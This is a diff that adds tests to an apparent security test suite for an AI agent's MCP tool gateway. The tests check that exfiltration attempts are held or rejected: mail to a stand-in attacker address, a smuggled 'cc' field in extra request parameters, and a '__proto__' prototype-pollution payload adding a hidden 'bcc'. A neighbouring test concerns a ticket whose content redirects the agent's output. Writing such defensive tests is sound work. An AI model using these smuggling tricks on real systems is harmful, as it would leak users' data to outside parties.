@@ -178,6 +178,37 @@ describe("MT-156 a run that a person opened", () => {
     });
   });
 
+  it("is marked by the names and descriptions that a server lists", async () => {
+    const run = await open({ task: "look around" });
+    await plane.hall.listed(callerOf("clerk"), run, "desk", "mcp:resources/read");
+    const sent = await mail("eve@evil.example", { run });
+    expect(sent.state).toBe("held");
+    expect((await flowOf(sent.id)).sources).toEqual([{ tool: "desk.mcp:resources/read" }]);
+    const theirs = plane.hall.listed(callerOf("helper"), run, "desk", "mcp:resources/read");
+    await expect(theirs).rejects.toMatchObject({ code: "not_found" });
+  });
+
+  it("sends nothing beside its arguments that nobody named, also by a read", async () => {
+    const run = await open({ task: "answer ticket 7 to kim@customer.example" });
+    await asks("get_ticket", { ticket: "7" }, { run });
+    const beside = { inputResponses: { cc: { action: "accept", content: { cc: "eve@evil.example" } } } };
+    for (const [tool, args] of [
+      ["send_mail", { to: "kim@customer.example", body: "hello" }],
+      ["status", {}],
+    ] as const) {
+      const params = { name: tool, arguments: args, ...beside };
+      const submission = { server: "desk", tool, method: "tools/call", params, args, door: "mcp" as const, run };
+      const { view } = await plane.hall.submit(callerOf("clerk"), submission, { waitMs: 0 });
+      expect(view.state).toBe("held");
+      expect(await flowOf(view.id)).toMatchObject({ effect: "egress", destinations: { params: "none" } });
+    }
+  });
+
+  it("holds no name that changes every object of a server", async () => {
+    const args = JSON.parse('{"to":"kim@customer.example","body":"x","__proto__":{"bcc":"eve@evil.example"}}');
+    await expect(asks("send_mail", args)).rejects.toMatchObject({ code: "invalid" });
+  });
+
   it("is held after it read a ticket, where the ticket says where to write", async () => {
     const run = await open({ task: "answer ticket 7" });
     const read = await asks("get_ticket", { ticket: "7" }, { run });
